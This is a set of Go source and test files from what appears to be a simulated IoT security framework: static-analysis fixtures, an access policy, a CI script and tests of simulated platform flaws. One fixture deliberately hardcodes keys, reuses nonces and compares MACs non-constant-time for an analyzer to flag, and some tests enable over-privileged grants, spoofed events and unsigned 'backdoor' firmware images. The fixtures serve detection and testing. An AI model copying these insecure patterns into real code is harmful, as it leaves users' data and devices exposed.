	lockQ(q) // want "inconsistent lock order: m\.Q\.mu acquired while holding m\.P\.mu"
	p.mu.Unlock()
}

func qThenP(p *P, q *Q) {
	q.mu.Lock()
	p.mu.Lock() // want "inconsistent lock order: m\.P\.mu acquired while holding m\.Q\.mu"
	p.mu.Unlock()
	q.mu.Unlock()
}

// --- Three-lock cycle: no edge has a direct reverse, every edge is on
// the cycle.

type C1 struct{ mu sync.Mutex }

type C2 struct{ mu sync.Mutex }

type C3 struct{ mu sync.Mutex }

func c12(a *C1, b *C2) {
	a.mu.Lock()
	b.mu.Lock() // want "lock-order cycle"
	b.mu.Unlock()
	a.mu.Unlock()
}

func c23(b *C2, c *C3) {
	b.mu.Lock()
	c.mu.Lock() // want "lock-order cycle"
	c.mu.Unlock()
	b.mu.Unlock()
}

func c31(c *C3, a *C1) {
	c.mu.Lock()
	a.mu.Lock() // want "lock-order cycle"
	a.mu.Unlock()
	c.mu.Unlock()
}

// --- Package-level mutex participates by variable identity.

var gate sync.Mutex

type DB struct{ mu sync.Mutex }

func gateThenDB(d *DB) {
	gate.Lock()
	d.mu.Lock() // want "inconsistent lock order: m\.DB\.mu acquired while holding m\.gate"
	d.mu.Unlock()
	gate.Unlock()
}

func dbThenGate(d *DB) {
	d.mu.Lock()
	gate.Lock() // want "inconsistent lock order: m\.gate acquired while holding m\.DB\.mu"
	gate.Unlock()
	d.mu.Unlock()
}

// --- Waived site: the reviewed side is silent, the other still reports.

type W1 struct{ mu sync.Mutex }

type W2 struct{ mu sync.Mutex }

func w12(a *W1, b *W2) {
	a.mu.Lock()
	b.mu.Lock() //xlf:allow-lockorder: boot path, reviewed against w21
	b.mu.Unlock()
	a.mu.Unlock()
}

func w21(a *W1, b *W2) {
	b.mu.Lock()
	a.mu.Lock() // want "inconsistent lock order: m\.W1\.mu acquired while holding m\.W2\.mu"
	a.mu.Unlock()
	b.mu.Unlock()
}

// --- Shapes that must stay quiet.

type N struct{ mu sync.Mutex }

type M struct{ mu sync.Mutex }

// branches: both arms acquire the same lock; the join must not invent a
// held state that self-conflicts.
func branches(n *N, cond bool) {
	if cond {
		n.mu.Lock()
	} else {
		n.mu.Lock()
	}
	n.mu.Unlock()
}

// loopClean: acquire/release inside a loop; the back edge carries an
// empty held set.
func loopClean(n *N) {
	for i := 0; i < 3; i++ {
		n.mu.Lock()
		n.mu.Unlock()
	}
}

// consistent: N before M everywhere — an edge, but never a cycle.
func consistentA(n *N, m *M) {
	n.mu.Lock()
	m.mu.Lock()
	m.mu.Unlock()
	n.mu.Unlock()
}

func consistentB(n *N, m *M) {
	n.mu.Lock()
	defer n.mu.Unlock()
	m.mu.Lock()
	defer m.mu.Unlock()
}
