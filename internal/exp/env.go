package exp

import (
	"math/rand"
	"time"
)

// Clock supplies monotonic elapsed-time readings for the few experiment
// sections that measure real execution speed (the Table III throughput
// column and the E4 DPI matching paths). Experiments never read the wall
// clock directly: timing flows through the Env, so tests can substitute a
// deterministic clock and replay an entire report byte-identically.
type Clock func() time.Duration

// WallClock returns a Clock backed by the process monotonic clock. This is
// the one sanctioned wall-clock read in the experiment suite; xlf-vet's
// determinism rule bans any other (see //xlf:allow-wallclock).
func WallClock() Clock {
	start := time.Now() //xlf:allow-wallclock benchmark timing source
	return func() time.Duration {
		return time.Since(start) //xlf:allow-wallclock benchmark timing source
	}
}

// StepClock returns a fake Clock that advances by step on every reading,
// so each timed section reports the same fixed elapsed time. The
// determinism regression tests use it to assert that two runs of the same
// experiment render identical tables.
func StepClock(step time.Duration) Clock {
	var now time.Duration
	return func() time.Duration {
		now += step
		return now
	}
}

// Env carries everything an experiment depends on besides its inputs: the
// seed for its random streams and the clock for throughput timing. Every
// experiment is a pure function of its Env.
type Env struct {
	Seed  int64
	Clock Clock
}

// NewEnv returns the standard environment: seeded randomness and
// wall-clock throughput timing.
func NewEnv(seed int64) *Env { return &Env{Seed: seed, Clock: WallClock()} }

// Rand returns a fresh deterministic generator for the experiment's seed.
// Each call restarts the stream, so experiments cannot leak RNG state into
// one another and single-experiment runs match full-suite runs.
func (e *Env) Rand() *rand.Rand { return rand.New(rand.NewSource(e.Seed)) }

// timeSection runs f and returns its elapsed duration on the env clock.
func (e *Env) timeSection(f func()) time.Duration {
	t0 := e.Clock()
	f()
	return e.Clock() - t0
}
