package core

import (
	"fmt"
	"sort"
	"strings"
	"sync"

	"xlf/internal/netsim"
	"xlf/internal/obs"
)

// NACPolicy is XLF's constrained-access function (§IV-A3): each device may
// only reach its enrolled vendor endpoints; everything else is denied at
// the gateway. The Core maintains the policy and exposes it as a
// netsim.Gateway outbound hook.
type NACPolicy struct {
	mu sync.Mutex
	// allowed maps device LAN address -> permitted WAN destinations.
	allowed map[netsim.Addr]map[netsim.Addr]bool
	// alwaysAllow lists shared infrastructure (DNS, NTP).
	alwaysAllow map[netsim.Addr]bool
	// blocked devices lose all WAN access (containment).
	blocked map[netsim.Addr]bool

	// OnDeny, when set, observes every denial — the Core turns repeated
	// denials into constrained-access signals.
	OnDeny func(pkt *netsim.Packet)

	// Tracer, when set, receives a core-layer span per denial. Spans are
	// emitted outside the policy mutex and timestamped by the tracer's
	// bound simulation clock.
	Tracer *obs.Tracer

	denials uint64
}

// NewNACPolicy returns an empty deny-by-default policy.
func NewNACPolicy() *NACPolicy {
	return &NACPolicy{
		allowed:     make(map[netsim.Addr]map[netsim.Addr]bool),
		alwaysAllow: make(map[netsim.Addr]bool),
		blocked:     make(map[netsim.Addr]bool),
	}
}

// Allow permits a device->destination pair.
func (p *NACPolicy) Allow(device, dst netsim.Addr) {
	p.mu.Lock()
	defer p.mu.Unlock()
	m := p.allowed[device]
	if m == nil {
		m = make(map[netsim.Addr]bool)
		p.allowed[device] = m
	}
	m[dst] = true
}

// AllowInfra whitelists shared infrastructure for all devices.
func (p *NACPolicy) AllowInfra(dst netsim.Addr) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.alwaysAllow[dst] = true
}

// Block cuts a device off (containment). Unblock restores it.
func (p *NACPolicy) Block(device netsim.Addr) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.blocked[device] = true
}

// Unblock restores a device's policy entries.
func (p *NACPolicy) Unblock(device netsim.Addr) {
	p.mu.Lock()
	defer p.mu.Unlock()
	delete(p.blocked, device)
}

// Blocked reports whether the device is under containment.
func (p *NACPolicy) Blocked(device netsim.Addr) bool {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.blocked[device]
}

// Denials returns how many packets the policy refused.
func (p *NACPolicy) Denials() uint64 {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.denials
}

// GatewayHook returns the function to install as Gateway.OutboundPolicy.
func (p *NACPolicy) GatewayHook() func(pkt *netsim.Packet) error {
	return func(pkt *netsim.Packet) error {
		p.mu.Lock()
		if p.blocked[pkt.Src] {
			p.denials++
			p.mu.Unlock()
			p.traceDeny(pkt, "quarantined")
			return fmt.Errorf("core: %s is quarantined", pkt.Src)
		}
		if p.alwaysAllow[pkt.Dst] {
			p.mu.Unlock()
			return nil
		}
		if m, ok := p.allowed[pkt.Src]; ok && m[pkt.Dst] {
			p.mu.Unlock()
			return nil
		}
		p.denials++
		cb := p.OnDeny
		p.mu.Unlock()
		p.traceDeny(pkt, "unenrolled")
		if cb != nil {
			cb(pkt)
		}
		return fmt.Errorf("core: NAC denies %s -> %s", pkt.Src, pkt.Dst)
	}
}

// traceDeny emits a nac-deny span when tracing is on. Called without the
// policy mutex held.
func (p *NACPolicy) traceDeny(pkt *netsim.Packet, cause string) {
	if p.Tracer == nil {
		return
	}
	p.Tracer.Emit(obs.LayerCore, "nac-deny",
		strings.TrimPrefix(string(pkt.Src), "lan:"), cause)
}

// Describe renders the policy for reports.
func (p *NACPolicy) Describe() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	var b strings.Builder
	devs := make([]string, 0, len(p.allowed))
	for d := range p.allowed {
		devs = append(devs, string(d))
	}
	sort.Strings(devs)
	for _, d := range devs {
		dsts := make([]string, 0, len(p.allowed[netsim.Addr(d)]))
		for a := range p.allowed[netsim.Addr(d)] {
			dsts = append(dsts, string(a))
		}
		sort.Strings(dsts)
		status := ""
		if p.blocked[netsim.Addr(d)] {
			status = " [QUARANTINED]"
		}
		fmt.Fprintf(&b, "%s%s -> %s\n", d, status, strings.Join(dsts, ", "))
	}
	return b.String()
}
