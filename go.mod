module xlf

go 1.22
