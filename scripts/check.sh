#!/usr/bin/env sh
# The full local/CI gate for the xlf repository. Mirrors
# .github/workflows/ci.yml; `make check` runs this script.
set -eu

cd "$(dirname "$0")/.."

echo '>> gofmt'
unformatted=$(gofmt -l .)
if [ -n "$unformatted" ]; then
	echo "gofmt needed on:" >&2
	echo "$unformatted" >&2
	exit 1
fi

echo '>> go vet ./...'
go vet ./...

echo '>> go build ./...'
go build ./...

echo '>> go test -race ./...'
go test -race ./...

# Fuzz smoke: a few seconds per corpus keeps the harnesses honest (a
# bit-rotted fuzz target fails here, not six months from now) and still
# catches shallow regressions in the codec/seal paths.
echo '>> fuzz smoke (5s per target)'
go test -run='^$' -fuzz='^FuzzOpen$' -fuzztime=5s ./internal/channel
go test -run='^$' -fuzz='^FuzzCodecOpen$' -fuzztime=5s ./internal/dnsp
go test -run='^$' -fuzz='^FuzzSealOpenRoundTrip$' -fuzztime=5s ./internal/dnsp
go test -run='^$' -fuzz='^FuzzDecode$' -fuzztime=5s ./internal/xauth

echo '>> xlf-vet ./...'
go run ./cmd/xlf-vet ./...

echo 'all checks passed'
