package service

import (
	"bytes"
	"errors"
	"testing"
	"time"

	"xlf/internal/xauth"
)

func newCloud(t *testing.T, flaws Flaws) *Cloud {
	t.Helper()
	var clock time.Duration
	c := NewCloud(flaws, func() time.Duration { clock += time.Millisecond; return clock })
	for _, d := range []struct {
		id   string
		caps []string
	}{
		{"thermo-1", []string{"thermostat", "temperature"}},
		{"window-1", []string{"lock", "contact"}},
		{"bulb-1", []string{"switch", "level"}},
		{"cam-1", []string{"camera", "motion"}},
	} {
		h := &DeviceHandler{ID: d.id, Caps: d.caps, CapOfCommand: map[string]string{
			"open": "lock", "unlock": "lock", "lock": "lock",
			"on": "switch", "off": "switch", "dim": "level",
			"heat": "thermostat", "cool": "thermostat",
			"record": "camera", "disable": "camera",
		}}
		if err := c.RegisterDevice(h); err != nil {
			t.Fatal(err)
		}
	}
	return c
}

func f80() *float64 { v := 80.0; return &v }

func TestTriggerActionRule(t *testing.T) {
	c := newCloud(t, Flaws{})
	app := &SmartApp{
		ID:     "climate",
		Rules:  []Rule{{TriggerDevice: "thermo-1", TriggerEvent: "temperature", TriggerAbove: f80(), ActionDevice: "window-1", ActionCommand: "open"}},
		Grants: []Grant{{DeviceID: "window-1", Capability: "lock"}, {DeviceID: "thermo-1", Capability: "temperature"}},
	}
	if err := c.InstallApp(app); err != nil {
		t.Fatal(err)
	}
	// Below threshold: no action.
	if err := c.PublishDeviceEvent("thermo-1", "temperature", 75); err != nil {
		t.Fatal(err)
	}
	if got := len(c.CommandLog()); got != 0 {
		t.Fatalf("commands after sub-threshold event = %d", got)
	}
	// Above threshold: window opens.
	if err := c.PublishDeviceEvent("thermo-1", "temperature", 85); err != nil {
		t.Fatal(err)
	}
	log := c.CommandLog()
	if len(log) != 1 || log[0].DeviceID != "window-1" || log[0].Name != "open" || log[0].IssuedBy != "app:climate" {
		t.Fatalf("command log = %+v", log)
	}
}

func TestSandboxBlocksUngrantedCommands(t *testing.T) {
	c := newCloud(t, Flaws{}) // hardened: fine-grained grants
	evil := &SmartApp{
		ID:     "rogue",
		Grants: []Grant{{DeviceID: "bulb-1", Capability: "switch"}},
		Hook: func(ev Event) []Command {
			// Holding only bulb switch, try to unlock the window.
			return []Command{{DeviceID: "window-1", Name: "unlock"}}
		},
		Malicious: true,
	}
	if err := c.InstallApp(evil); err != nil {
		t.Fatal(err)
	}
	if err := c.PublishDeviceEvent("bulb-1", "on", 1); err != nil {
		t.Fatal(err)
	}
	for _, cmd := range c.CommandLog() {
		if cmd.DeviceID == "window-1" {
			t.Fatal("sandbox let a rogue app unlock the window")
		}
	}
}

func TestCoarseGrantsOverPrivilege(t *testing.T) {
	c := newCloud(t, Flaws{CoarseGrants: true}) // the SmartThings flaw
	evil := &SmartApp{
		ID: "rogue",
		// Only the contact (sensor) capability was requested...
		Grants: []Grant{{DeviceID: "window-1", Capability: "contact"}},
		Hook: func(ev Event) []Command {
			return []Command{{DeviceID: "window-1", Name: "unlock"}}
		},
		Malicious: true,
	}
	if err := c.InstallApp(evil); err != nil {
		t.Fatal(err)
	}
	if err := c.PublishDeviceEvent("bulb-1", "on", 1); err == nil {
		// ...but the coarse grant lets it actuate the lock.
		found := false
		for _, cmd := range c.CommandLog() {
			if cmd.DeviceID == "window-1" && cmd.Name == "unlock" {
				found = true
			}
		}
		if !found {
			t.Fatal("over-privilege flaw did not manifest")
		}
	} else {
		t.Fatal(err)
	}
}

func TestEventSpoofing(t *testing.T) {
	hardened := newCloud(t, Flaws{})
	spoof := Event{DeviceID: "cam-1", Name: "motion", Source: "spoofed:attacker"}
	if err := hardened.PublishRaw(spoof); !errors.Is(err, ErrSpoofRejected) {
		t.Errorf("hardened platform accepted spoof: %v", err)
	}
	vulnerable := newCloud(t, Flaws{UnsignedEvents: true})
	if err := vulnerable.PublishRaw(spoof); err != nil {
		t.Errorf("vulnerable platform rejected spoof: %v", err)
	}
	if len(vulnerable.EventLog()) != 1 {
		t.Error("spoofed event not logged")
	}
}

func TestShadowTracksLastEvent(t *testing.T) {
	c := newCloud(t, Flaws{})
	c.PublishDeviceEvent("thermo-1", "temperature", 71)
	c.PublishDeviceEvent("thermo-1", "temperature", 74)
	ev, ok := c.Shadow("thermo-1", "temperature")
	if !ok || ev.Value != 74 {
		t.Errorf("shadow = %+v %v", ev, ok)
	}
	if _, ok := c.Shadow("ghost", "x"); ok {
		t.Error("shadow for unknown device")
	}
}

func TestInstallValidation(t *testing.T) {
	c := newCloud(t, Flaws{})
	if err := c.InstallApp(&SmartApp{ID: ""}); err == nil {
		t.Error("empty app ID accepted")
	}
	if err := c.InstallApp(&SmartApp{ID: "x", Grants: []Grant{{DeviceID: "ghost"}}}); err == nil {
		t.Error("grant on unknown device accepted")
	}
	if err := c.InstallApp(&SmartApp{ID: "a"}); err != nil {
		t.Fatal(err)
	}
	if err := c.InstallApp(&SmartApp{ID: "a"}); err == nil {
		t.Error("duplicate app accepted")
	}
	c.UninstallApp("a")
	if len(c.Apps()) != 0 {
		t.Error("uninstall failed")
	}
	if err := c.RegisterDevice(&DeviceHandler{ID: "thermo-1"}); err == nil {
		t.Error("duplicate device accepted")
	}
}

func TestMonitorsSeeTraffic(t *testing.T) {
	c := newCloud(t, Flaws{})
	var evs []Event
	var cmds []Command
	c.EventMonitor = func(ev Event) { evs = append(evs, ev) }
	c.CommandMonitor = func(cmd Command) { cmds = append(cmds, cmd) }
	app := &SmartApp{
		ID:     "lights",
		Rules:  []Rule{{TriggerDevice: "cam-1", TriggerEvent: "motion", ActionDevice: "bulb-1", ActionCommand: "on"}},
		Grants: []Grant{{DeviceID: "bulb-1", Capability: "switch"}},
	}
	c.InstallApp(app)
	c.PublishDeviceEvent("cam-1", "motion", 1)
	if len(evs) != 1 || len(cmds) != 1 {
		t.Errorf("monitors saw %d events %d commands, want 1/1", len(evs), len(cmds))
	}
}

func apiFixture(t *testing.T) (*API, *xauth.Authority, func() time.Duration) {
	t.Helper()
	auth, err := xauth.NewAuthority([]byte("k"), []xauth.User{
		{Name: "alice", Password: "pw", Priv: xauth.Advanced, MFASecret: "s"},
		{Name: "bob", Password: "pw", Priv: xauth.Basic},
	})
	if err != nil {
		t.Fatal(err)
	}
	var clock time.Duration
	now := func() time.Duration { clock += time.Millisecond; return clock }
	cloud := newCloud(t, Flaws{})
	cloud.PublishDeviceEvent("bulb-1", "on", 1)
	return NewAPI(cloud, auth.Signer(), now), auth, now
}

func TestAPIScopes(t *testing.T) {
	api, auth, now := apiFixture(t)
	tm := now()
	code, _ := auth.MFACodeFor("alice", tm)
	aliceSSO, err := auth.Authenticate("alice", "pw", code, "", tm)
	if err != nil {
		t.Fatal(err)
	}
	bobSSO, err := auth.Authenticate("bob", "pw", "", "", tm)
	if err != nil {
		t.Fatal(err)
	}

	aliceTok, err := api.MintToken(aliceSSO)
	if err != nil {
		t.Fatal(err)
	}
	if aliceTok.Scope != ScopeWrite {
		t.Errorf("alice scope = %s, want write", aliceTok.Scope)
	}
	bobTok, err := api.MintToken(bobSSO)
	if err != nil {
		t.Fatal(err)
	}
	if bobTok.Scope != ScopeRead {
		t.Errorf("bob scope = %s, want read", bobTok.Scope)
	}

	// Bob can read but not write.
	if _, err := api.GetStatus(bobTok, "bulb-1", "on"); err != nil {
		t.Errorf("bob read: %v", err)
	}
	if err := api.SendCommand(bobTok, "bulb-1", "off"); !errors.Is(err, ErrScopeViolation) {
		t.Errorf("bob write err = %v, want scope violation", err)
	}
	// Alice can write but not admin.
	if err := api.SendCommand(aliceTok, "bulb-1", "off"); err != nil {
		t.Errorf("alice write: %v", err)
	}
	if err := api.InstallApp(aliceTok, &SmartApp{ID: "x"}); !errors.Is(err, ErrScopeViolation) {
		t.Errorf("alice admin err = %v, want scope violation", err)
	}
	// Forged scope escalation is caught by validate (scope check happens
	// against the token's own scope; SSO signature protects the rest).
	forged := bobTok
	forged.Scope = ScopeAdmin
	forged.SSO.Priv = xauth.Advanced
	if err := api.InstallApp(forged, &SmartApp{ID: "y"}); err == nil {
		t.Error("forged SSO accepted")
	}
}

func TestAPIRateLimit(t *testing.T) {
	api, auth, now := apiFixture(t)
	api.RatePerMinute = 5
	tm := now()
	sso, _ := auth.Authenticate("bob", "pw", "", "", tm)
	tok, _ := api.MintToken(sso)
	okCount := 0
	for i := 0; i < 10; i++ {
		if _, err := api.GetStatus(tok, "bulb-1", "on"); err == nil {
			okCount++
		}
	}
	if okCount != 5 {
		t.Errorf("accepted %d calls, want 5", okCount)
	}
}

func TestOTASignedFlow(t *testing.T) {
	c := newCloud(t, Flaws{})
	seed := bytes.Repeat([]byte{9}, 32)
	ota, err := NewOTAPipeline(c, seed)
	if err != nil {
		t.Fatal(err)
	}
	var flashed []OTAImage
	ota.Flash = func(deviceID string, img OTAImage) error {
		flashed = append(flashed, img)
		return nil
	}
	img := ota.Build("2.0", []byte("new-firmware"))
	if err := VerifyImage(ota.VendorPublicKey(), img); err != nil {
		t.Fatalf("fresh image fails verification: %v", err)
	}
	if err := ota.Push("cam-1", img); err != nil {
		t.Fatal(err)
	}
	if len(flashed) != 1 {
		t.Fatal("image not flashed")
	}

	// Tampered image rejected on the hardened platform.
	bad := img
	bad.Data = append([]byte(nil), img.Data...)
	bad.Data[0] ^= 0xFF
	if err := ota.Push("cam-1", bad); err == nil {
		t.Error("tampered image pushed")
	}
	// Unsigned image rejected.
	unsigned := OTAImage{Version: "2.1", Data: []byte("x"), Fingerprint: 0}
	if err := ota.Push("cam-1", unsigned); err == nil {
		t.Error("unsigned image pushed")
	}
	_, rejected := ota.Stats()
	if rejected != 2 {
		t.Errorf("rejected = %d, want 2", rejected)
	}
}

func TestOTAFlawAllowsUnsigned(t *testing.T) {
	c := newCloud(t, Flaws{OpenRedirectOTA: true})
	ota, err := NewOTAPipeline(c, bytes.Repeat([]byte{9}, 32))
	if err != nil {
		t.Fatal(err)
	}
	var flashed int
	ota.Flash = func(deviceID string, img OTAImage) error { flashed++; return nil }
	evil := OTAImage{Version: "evil", Data: []byte("backdoor")}
	if err := ota.Push("cam-1", evil); err != nil {
		t.Fatalf("flawed pipeline rejected: %v", err)
	}
	if flashed != 1 {
		t.Error("malicious image not delivered")
	}
	if err := ota.Push("ghost", evil); !errors.Is(err, ErrUnknownDevice) {
		t.Errorf("unknown device: %v", err)
	}
}

func TestOTASeedValidation(t *testing.T) {
	if _, err := NewOTAPipeline(newCloud(t, Flaws{}), []byte("short")); err == nil {
		t.Error("short seed accepted")
	}
}
