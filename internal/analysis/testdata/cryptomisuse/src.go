// Package cryptofix exercises the cryptomisuse rule: hardcoded, short
// and math/rand-derived keys, constant and reused nonces, and
// non-constant-time MAC comparisons.
package cryptofix

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	mrand "math/rand"

	"example.com/m/vault"
)

func hardKey() *vault.Cipher {
	return vault.NewCipher([]byte("0123456789abcdef")) // want "hardcoded 16-byte key literal"
}

func hardKeyVar() *vault.Cipher {
	key := []byte("0123456789abcdef")
	return vault.NewCipher(key) // want "hardcoded 16-byte key literal"
}

func hardShortKey() *vault.Cipher {
	key := []byte{0x01, 0x02, 0x03}
	return vault.NewCipher(key) // want "hardcoded 3-byte key literal for vault\.NewCipher .below the 16-byte minimum."
}

func shortKey() *vault.Cipher {
	key := make([]byte, 8)
	fill(key)
	return vault.NewCipher(key) // want "key for vault\.NewCipher is only 8 bytes .minimum 16."
}

func hmacHardKey() []byte {
	m := hmac.New(sha256.New, []byte("secret")) // want "hardcoded 6-byte key literal for hmac\.New"
	return m.Sum(nil)
}

func randKey() *vault.Cipher {
	key := make([]byte, 16)
	mrand.Read(key)
	return vault.NewCipher(key) // want "key material .key. for vault\.NewCipher drawn from math/rand"
}

func randKeyExpr(n int) *vault.Cipher {
	key := make([]byte, 16)
	for i := range key {
		key[i] = byte(mrand.Intn(256))
	}
	return vault.NewCipher(key) // want "key material .key. for vault\.NewCipher drawn from math/rand"
}

// okParamKey takes key material from the caller: provenance is theirs.
func okParamKey(key []byte) *vault.Cipher {
	return vault.NewCipher(key)
}

// okDerivedKey obtains the key dynamically.
func okDerivedKey(secret []byte) *vault.Cipher {
	return vault.NewCipher(derive(secret))
}

// okBranchMixed has a literal on only one reaching path.
func okBranchMixed(provisioned []byte, demo bool) *vault.Cipher {
	key := provisioned
	if demo {
		key = deriveDemo()
	}
	return vault.NewCipher(key)
}

// demoCipher is the sanctioned escape hatch. xlf:allow-cryptomisuse
func demoCipher() *vault.Cipher {
	return vault.NewCipher([]byte("fixed-demo-key!!"))
}

func sealConstNonce(b *vault.Box, msg []byte) []byte {
	return b.Seal(nil, []byte("000000000000"), msg, nil) // want "constant nonce/IV passed to b\.Seal"
}

func sealRandNonce(b *vault.Box, msg []byte) []byte {
	nonce := make([]byte, 12)
	mrand.Read(nonce)
	return b.Seal(nil, nonce, msg, nil) // want "nonce .nonce. for b\.Seal drawn from math/rand"
}

func sealTwice(b *vault.Box, nonce, p1, p2 []byte) ([]byte, []byte) {
	c1 := b.Seal(nil, nonce, p1, nil)
	c2 := b.Seal(nil, nonce, p2, nil) // want "nonce .nonce. is reused by this b\.Seal call"
	return c1, c2
}

func sealLoop(b *vault.Box, nonce []byte, msgs [][]byte) [][]byte {
	var out [][]byte
	for _, m := range msgs {
		out = append(out, b.Seal(nil, nonce, m, nil)) // want "nonce .nonce. is reused by this b\.Seal call"
	}
	return out
}

// sealFresh rewrites the nonce before every Seal: no reuse.
func sealFresh(b *vault.Box, msgs [][]byte) [][]byte {
	var out [][]byte
	for i, m := range msgs {
		nonce := counter(uint64(i))
		out = append(out, b.Seal(nil, nonce, m, nil))
	}
	return out
}

// sealSequenced rewrites a shared nonce variable between the two calls.
func sealSequenced(b *vault.Box, p1, p2 []byte) ([]byte, []byte) {
	nonce := counter(1)
	c1 := b.Seal(nil, nonce, p1, nil)
	nonce = counter(2)
	c2 := b.Seal(nil, nonce, p2, nil)
	return c1, c2
}

func weakTagEqual(tag, want []byte) bool {
	return bytes.Equal(tag, want) // want "MAC/tag compared with bytes\.Equal"
}

func weakSumEqual(m1 []byte) bool {
	h := sha256.New()
	return bytes.Equal(h.Sum(nil), m1) // want "MAC/tag compared with bytes\.Equal"
}

func weakTagString(tag, expect string) bool {
	return tag == expect // want "MAC/tag compared with =="
}

func weakTagConvert(tag, expect []byte) bool {
	return string(tag) != string(expect) // want "MAC/tag compared with !="
}

// okSizeCompare compares lengths, not material.
func okSizeCompare(tagSize int) bool {
	return tagSize == 8
}

// okPayloadEqual compares non-secret payloads.
func okPayloadEqual(payload, expect []byte) bool {
	return bytes.Equal(payload, expect)
}

func fill(b []byte) {
	for i := range b {
		b[i] = byte(i)
	}
}

func derive(secret []byte) []byte {
	h := sha256.Sum256(secret)
	return h[:16]
}

func deriveDemo() []byte { return derive([]byte{0xff}) }

func counter(n uint64) []byte {
	out := make([]byte, 12)
	for i := 0; i < 8; i++ {
		out[i] = byte(n >> (8 * i))
	}
	return out
}
