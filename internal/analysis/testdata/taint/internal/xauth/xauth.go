package xauth

// Token is the fixture's SSO token.
type Token struct {
	Subject string
	Sig     []byte
}

// Signer issues tokens; Issue/Encode/Decode are secretleak sources.
type Signer struct{ key []byte }

// Issue mints a signed token.
func (s *Signer) Issue(subject string) Token {
	return Token{Subject: subject, Sig: s.key}
}

// Encode serialises a token for transport (still secret material).
func Encode(t Token) string { return t.Subject + "!" + string(t.Sig) }

// Decode parses a transported token.
func Decode(raw string) (Token, error) { return Token{Subject: raw}, nil }

// Redact is the sanctioned display form — the secretleak sanitizer.
func Redact(t Token) string { return "token(" + t.Subject + ")" }
