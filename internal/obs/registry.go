package obs

import (
	"fmt"
	"math/bits"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
)

// Counter is a monotonically increasing metric. A nil *Counter discards
// updates, so callers can hold one unconditionally.
type Counter struct {
	v atomic.Uint64
}

// Add increments the counter by delta. Nil-safe.
//
//xlf:hotpath
func (c *Counter) Add(delta uint64) {
	if c == nil {
		return
	}
	c.v.Add(delta)
}

// Inc increments the counter by one. Nil-safe.
//
//xlf:hotpath
func (c *Counter) Inc() { c.Add(1) }

// Value returns the current count. Nil-safe.
func (c *Counter) Value() uint64 {
	if c == nil {
		return 0
	}
	return c.v.Load()
}

// Gauge is a settable signed metric (queue depth, active sessions).
type Gauge struct {
	v atomic.Int64
}

// Set stores the gauge value. Nil-safe.
//
//xlf:hotpath
func (g *Gauge) Set(v int64) {
	if g == nil {
		return
	}
	g.v.Store(v)
}

// Add moves the gauge by delta. Nil-safe.
//
//xlf:hotpath
func (g *Gauge) Add(delta int64) {
	if g == nil {
		return
	}
	g.v.Add(delta)
}

// Value returns the current gauge reading. Nil-safe.
func (g *Gauge) Value() int64 {
	if g == nil {
		return 0
	}
	return g.v.Load()
}

// histBuckets is one bucket per power of two (bucket i holds values v
// with bits.Len64(v) == i, i.e. 0, 1, 2–3, 4–7, ...), plus bucket 0 for
// zero. 65 buckets cover the full uint64 range.
const histBuckets = 65

// Histogram is a power-of-two bucketed distribution: cheap (one atomic
// add per observation), bounded, and exact enough to rank hot paths.
type Histogram struct {
	buckets [histBuckets]atomic.Uint64
	sum     atomic.Uint64
	count   atomic.Uint64
}

// Observe records one sample. Nil-safe.
//
//xlf:hotpath
func (h *Histogram) Observe(v uint64) {
	if h == nil {
		return
	}
	h.buckets[bits.Len64(v)].Add(1)
	h.sum.Add(v)
	h.count.Add(1)
}

// Count returns the number of observations. Nil-safe.
func (h *Histogram) Count() uint64 {
	if h == nil {
		return 0
	}
	return h.count.Load()
}

// Sum returns the running total of observed values. Nil-safe.
func (h *Histogram) Sum() uint64 {
	if h == nil {
		return 0
	}
	return h.sum.Load()
}

// Buckets returns the nonzero buckets as (upper-bound, count) pairs in
// ascending order. The upper bound for bucket i is 2^i - 1. Nil-safe.
func (h *Histogram) Buckets() []HistBucket {
	if h == nil {
		return nil
	}
	var out []HistBucket
	for i := 0; i < histBuckets; i++ {
		if n := h.buckets[i].Load(); n > 0 {
			hi := uint64(0)
			if i > 0 {
				hi = 1<<uint(i) - 1
			}
			out = append(out, HistBucket{Le: hi, Count: n})
		}
	}
	return out
}

// HistBucket is one row of a Histogram snapshot: Count observations with
// value <= Le (and above the previous bucket's bound).
type HistBucket struct {
	Le    uint64 `json:"le"`
	Count uint64 `json:"count"`
}

// Registry is a get-or-create namespace of runtime metrics, separate from
// the offline eval tables in internal/metrics. A nil *Registry hands out
// nil instruments, which discard updates — the disabled state mirrors the
// nil Tracer. All methods are safe for concurrent use.
type Registry struct {
	mu         sync.Mutex
	counters   map[string]*Counter
	gauges     map[string]*Gauge
	histograms map[string]*Histogram
}

// NewRegistry builds an empty metrics registry. Registries are per-run
// observability state owned by the obs domain (DESIGN.md §14).
//
//xlf:owned(obs)
func NewRegistry() *Registry {
	return &Registry{
		counters:   make(map[string]*Counter),
		gauges:     make(map[string]*Gauge),
		histograms: make(map[string]*Histogram),
	}
}

// Counter returns the named counter, creating it on first use. Nil-safe:
// a nil registry returns a nil (discarding) counter.
func (r *Registry) Counter(name string) *Counter {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	c, ok := r.counters[name]
	if !ok {
		c = &Counter{}
		r.counters[name] = c
	}
	return c
}

// Gauge returns the named gauge, creating it on first use. Nil-safe.
func (r *Registry) Gauge(name string) *Gauge {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	g, ok := r.gauges[name]
	if !ok {
		g = &Gauge{}
		r.gauges[name] = g
	}
	return g
}

// Histogram returns the named histogram, creating it on first use.
// Nil-safe.
func (r *Registry) Histogram(name string) *Histogram {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	h, ok := r.histograms[name]
	if !ok {
		h = &Histogram{}
		r.histograms[name] = h
	}
	return h
}

// Snapshot is a point-in-time, name-sorted copy of a registry's metrics.
type Snapshot struct {
	Counters   []CounterSample `json:"counters,omitempty"`
	Gauges     []GaugeSample   `json:"gauges,omitempty"`
	Histograms []HistSample    `json:"histograms,omitempty"`
}

// CounterSample is one counter reading in a Snapshot.
type CounterSample struct {
	Name  string `json:"name"`
	Value uint64 `json:"value"`
}

// GaugeSample is one gauge reading in a Snapshot.
type GaugeSample struct {
